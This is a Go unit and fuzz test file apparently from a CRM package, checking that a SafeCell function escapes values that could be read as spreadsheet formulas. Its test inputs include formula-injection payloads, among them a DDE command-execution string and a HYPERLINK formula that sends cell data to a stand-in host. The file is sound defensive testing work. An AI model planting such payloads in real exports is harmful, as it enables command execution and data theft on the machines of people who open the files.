package crm

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestR32_CellsThatBeginLikeAFormulaAreText(t *testing.T) {
	for _, value := range []string{
		`=1+1`, `=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(A1)`, `-`, `=`, `+47 12 34 56 78`,
		"\t=1+1", "\r=1+1", "\n=1+1", "\ttext", " =1+1", `"=1+1"`, `'=1+1`, `''=1+1`, ` "' =1+1`,
		"\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1",
		"＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", `=HYPERLINK("https://evil.example/?"&A1,"click")`, "-1e5x", "+",
	} {
		cell := SafeCell(value)
		require.Equal(t, "'"+value, cell)
		require.Equal(t, value, ValueOfCell(cell))
	}
	for _, value := range []string{
		"", "text", "Ada Lovelace", "a=b", "1+1", "-5", "+5", "-1.5e3", " -5 ", "'-5", "'text", "''", "'", "🙂=1", "\xff=1",
	} {
		require.Equal(t, value, SafeCell(value))
		require.Equal(t, value, ValueOfCell(value))
	}
}

// Whatever a value is, its cell begins no formula, and it comes back.
func FuzzR32_Cells(f *testing.F) {
	for _, seed := range []string{"=1", "'=1", "-5", " \t@x", "＝", "", "\xff-"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, value string) {
		cell := SafeCell(value)
		require.Equal(t, value, ValueOfCell(cell))
		if bare := strings.TrimLeft(cell, " \"\u00a0\u3000\u200b\ufeff\x00"); bare != "" && strings.ContainsAny(bare[:1], "=+-@\t\r\n") {
			_, number := Number(TypeNumber, bare)
			require.True(t, number, "%q", cell)
		}
	})
}
